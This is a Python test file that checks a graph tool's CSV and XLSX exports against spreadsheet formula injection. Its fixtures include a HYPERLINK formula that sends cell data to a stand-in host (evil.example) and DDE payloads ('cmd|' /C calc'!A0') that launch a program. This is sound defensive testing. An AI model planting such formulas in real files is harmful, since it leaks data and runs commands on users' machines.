"""Spreadsheet formula injection (OWASP "CSV Injection") in the exports.

A node named ``=HYPERLINK("http://evil.example/?"&A1)`` must not become a live formula when an
export is opened in Excel, LibreOffice or Google Sheets. Every spreadsheet-like export is run
through the CLI on a store whose texts begin with each trigger character, and every file is read
back with the csv module or openpyxl: CSV cells carry a leading apostrophe, XLSX cells are text
with Excel's quote prefix and never a formula, numbers stay numbers, the other formats keep the
values byte-exact, and our own importers read every export back into the same graph.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import networkx as nx
import pytest
from openpyxl import load_workbook

from coco_atlas.api.cli import main
from coco_atlas.graph.embedded.store import EmbeddedStore
from coco_atlas.importers.outputs import csv_cell, formula_like, unquote, xlsx_cell
from coco_atlas.schema import Edge, Node
from tests.importing import SUFFIX, graph, reimport

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
# Texts that must come back exactly: formulas, signs, an apostrophe before a trigger (escaped
# once more on export), Dutch names that start with an apostrophe (left alone), error codes.
EXACT = {
    "f": ATTACK, "sum": "=1+2", "plus": "+43 1 234", "minus": "-Wien", "at": "@home",
    "esc": "'=already quoted", "esc2": "''-twice", "nl": "'s-Hertogenbosch", "na": "#N/A",
}
CSV_FORMATS = ("csv", "gephi-csv")
XLSX_FORMATS = ("xlsx", "kumu-xlsx")
EXACT_FORMATS = ("jsonl", "graphml", "gexf", "kumu-json")


def _hostile_graph(db: Path) -> None:
    """Names, descriptions, cities, tags and ids that begin with every trigger character."""
    nodes = [Node(f"c-{key}", "Company", {"name": text, "description": text, "city": text,
                                          "tags": [text, "plain"], "foundedYear": 2001,
                                          "country": "AT"})
             for key, text in EXACT.items()]
    nodes += [Node(f"w-{ord(t)}", "Competence", {"name": f"{t}cmd|' /C calc'!A0",
                                                 "description": f"{t}x"}) for t in TRIGGERS]
    nodes += [Node("=id", "Hub", {"name": "Hub", "kind": "cluster", "country": "AT",
                                    "foundedYear": 2010}),
              Node("p1", "Collaboration", {"name": "Pilot", "kind": "contract",
                                           "budget": 1234.5})]
    edges = [Edge("c-minus", "MEMBER_OF", "=id", {"since": 2015}),
             Edge("c-at", "PARTNERS_WITH", "c-sum", {"weight": 0.5}),
             Edge("=id", "PARTICIPATES_IN", "p1", {"role": "lead"})]
    with EmbeddedStore(db) as s, s.transaction("fixture") as tx:
        tx.upsert_nodes(nodes)
        tx.upsert_edges(edges)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    db = tmp_path_factory.mktemp("hostile") / "hostile.db"
    _hostile_graph(db)
    return db


def _export(db: Path, fmt: str, out: Path) -> Path:
    target = out.with_suffix(SUFFIX.get(fmt, ""))
    assert main(["export", fmt, str(target), "--db", str(db)]) == 0
    return target


def _csv_cells(folder: Path) -> list[str]:
    cells = []
    for name in ("nodes.csv", "edges.csv"):
        with open(folder / name, encoding="utf-8", newline="") as f:
            for row in csv.reader(f):
                cells += row
    return cells


def _xlsx_cells(path: Path) -> list[Any]:
    book = load_workbook(path)  # not read-only: cell types and styles are wanted
    try:
        return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row
                if c.value is not None]
    finally:
        book.close()


def _texts() -> list[str]:
    """Every text of the hostile graph, as :func:`cell` writes it (lists joined by |)."""
    return [*EXACT.values(), *(f"{t}cmd|' /C calc'!A0" for t in TRIGGERS),
            *(f"{t}x" for t in TRIGGERS), *(f"{v}|plain" for v in EXACT.values())]


# -- CSV: a leading apostrophe -------------------------------------------------------------------
@pytest.mark.parametrize("fmt", CSV_FORMATS)
def test_no_csv_cell_starts_a_formula(fmt: str, hostile: Path, tmp_path: Path) -> None:
    cells = _csv_cells(_export(hostile, fmt, tmp_path / "out"))
    live = [c for c in cells if c[:1] in TRIGGERS]
    assert not live, f"cells a spreadsheet would evaluate: {live}"
    for text in _texts():
        if text[:1] in TRIGGERS or text.startswith(("'=", "''-")):
            assert "'" + text in cells and text not in cells, text
    assert "'s-Hertogenbosch" in cells and "''s-Hertogenbosch" not in cells
    assert "'=id" in cells  # ids (and the edges' ends) are text too
    assert "2001" in cells and "1234.5" in cells  # numbers are not quoted


# -- XLSX: text cells with Excel's quote prefix, never formulas ------------------------------------
@pytest.mark.parametrize("fmt", XLSX_FORMATS)
def test_no_xlsx_cell_is_a_formula(fmt: str, hostile: Path, tmp_path: Path) -> None:
    cells = _xlsx_cells(_export(hostile, fmt, tmp_path / "out"))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in _texts():
        if text[:1] in TRIGGERS:
            # the value itself, unchanged (XML reads a carriage return as a line feed)
            got = texts[text.replace("\r", "\n")]
            assert (got.data_type, got.quotePrefix) == ("s", True), repr(text)
    assert texts["#N/A"].data_type == "s"  # not Excel's error value
    assert not texts["'s-Hertogenbosch"].quotePrefix and not texts["Pilot"].quotePrefix
    numbers = [c for c in cells if c.value in (2001, 1234.5)]
    assert numbers and all(c.data_type == "n" and not c.quotePrefix for c in numbers)


# -- formats that are not spreadsheets keep the values byte-exact ---------------------------------
def test_json_lines_keep_values_exact(hostile: Path, tmp_path: Path) -> None:
    out = _export(hostile, "jsonl", tmp_path / "out")
    with open(out / "nodes.jsonl", encoding="utf-8") as f:
        names = {row["id"]: row["name"] for row in map(json.loads, f)}
    assert {k: names[f"c-{k}"] for k in EXACT} == EXACT
    assert names["w-9"] == "\tcmd|' /C calc'!A0"


@pytest.mark.parametrize("fmt", ("graphml", "gexf", "kumu-json"))
def test_other_formats_never_add_an_apostrophe(fmt: str, hostile: Path, tmp_path: Path) -> None:
    out = _export(hostile, fmt, tmp_path / "out")
    if fmt == "kumu-json":
        data = json.loads(out.read_text(encoding="utf-8"))
        names = {e["id"]: e["label"] for e in data["elements"]}
    else:
        g = (nx.read_graphml if fmt == "graphml" else nx.read_gexf)(out)
        names = {node: attrs["label"] for node, attrs in g.nodes(data=True)}
    assert {k: names[f"c-{k}"] for k in EXACT} == EXACT
    assert names["w-64"] == "@cmd|' /C calc'!A0" and "=id" in names


# -- round trip: our importers read every export back into the same graph -------------------------
@pytest.mark.parametrize("fmt", CSV_FORMATS + XLSX_FORMATS + EXACT_FORMATS)
def test_exported_formula_texts_read_back_unchanged(fmt: str, hostile: Path,
                                                   tmp_path: Path) -> None:
    out = _export(hostile, fmt, tmp_path / "out")
    assert reimport(fmt, out, tmp_path / "back.db") == 0
    back, edges = graph(tmp_path / "back.db")
    for key, text in EXACT.items():
        props = back[f"c-{key}"][1]
        assert (props["name"], props["description"], props["city"], props["tags"]) == (
            text, text, text, [text, "plain"]), fmt
    for t in "=+-@":
        assert back[f"w-{ord(t)}"][1]["name"] == f"{t}cmd|' /C calc'!A0"
    # values are trimmed on import (docs/formats.md): a leading tab or CR does not survive,
    # but the apostrophe the export put before it does not stay behind either
    assert back["w-9"][1]["name"] == "cmd|' /C calc'!A0"
    assert back["w-13"][1]["description"] == "x"
    assert back["=id"][0] == "Hub" and ("c-minus", "MEMBER_OF", "=id") in edges
    assert back["p1"][1]["budget"] == 1234.5


def test_a_spreadsheet_apostrophe_in_a_csv_file_is_read_as_excel_reads_it(
        tmp_path: Path) -> None:
    """A CSV written by hand or by another tool: ``'=x`` is the text ``=x`` (Excel shows it
    so), ``'s-Hertogenbosch`` keeps its apostrophe — in a file without double quotes (read by
    splitting lines) and in one with them (read by the csv module)."""
    plain, quoted = tmp_path / "plain.csv", tmp_path / "quoted.csv"
    plain.write_text("id,label,country,name,city\n"
                     "a,Company,NL,'=1+2,'s-Hertogenbosch\n", encoding="utf-8")
    quoted.write_text("id,label,country,name,city\n"
                      "b,Company,AT,\"'-Wien, Favoriten\",'@home\n", encoding="utf-8")
    db = tmp_path / "t.db"
    assert main(["import", "csv", "--nodes", str(plain), "--nodes", str(quoted), "--db",
                 str(db)]) == 0
    back, _ = graph(db)
    assert (back["a"][1]["name"], back["a"][1]["city"]) == ("=1+2", "'s-Hertogenbosch")
    assert (back["b"][1]["name"], back["b"][1]["city"]) == ("-Wien, Favoriten", "@home")


def test_the_problem_report_repeats_hostile_cells_harmlessly(tmp_path: Path) -> None:
    """``--report problems.csv`` quotes the imported file's own text (values and column
    names), which is exactly where a hostile file's formulas would end up."""
    nodes = tmp_path / "nodes.csv"
    with open(nodes, "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["id", "label", "country", "name", "foundedYear", "@Colour"],
                                 ["a", "Company", "AT", "A", ATTACK, "red"],
                                 ["b", "Company", "AT", "B", "-12", ""]])
    report = tmp_path / "problems.csv"
    assert main(["import", "csv", "--nodes", str(nodes), "--report", str(report), "--db",
                 str(tmp_path / "t.db")]) == 2
    with open(report, encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    got = {(r["row"], r["column"]): r["got"] for r in rows}
    assert got["2", "foundedYear"] == "'" + ATTACK and got["2", "'@Colour"] == "red"
    # the only cell that starts with a trigger is the number (out of range), not quoted
    assert [c for r in rows for c in r.values() if c[:1] in TRIGGERS] == ["-12"]


# -- the one rule ----------------------------------------------------------------------------------
@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\tx", "\rx", "'=x", "''+x"])
def test_the_rule_quotes_and_unquotes_every_trigger(text: str) -> None:
    assert formula_like(text) and csv_cell(text) == "'" + text
    assert unquote(csv_cell(text)) == text


@pytest.mark.parametrize("text", ["", "plain", "'s-Hertogenbosch", "'", "x=1", " =1", "#N/A"])
def test_the_rule_leaves_other_texts_alone(text: str) -> None:
    assert not formula_like(text) and csv_cell(text) == text and unquote(text) == text


def test_numbers_are_never_quoted() -> None:
    """The schema has no negative numbers yet (budgets, weights and years are ≥ 0), so the
    store cannot hold one for a CLI test: the rule is checked on the values directly."""
    assert (csv_cell(-5), csv_cell(-2.5), csv_cell(-1e-05)) == ("-5", "-2.5", "-1e-05")
    assert csv_cell(["-a", "b"]) == "'-a|b"  # a list is text
    assert xlsx_cell(None, -5) == -5 and xlsx_cell(None, -2.5) == -2.5
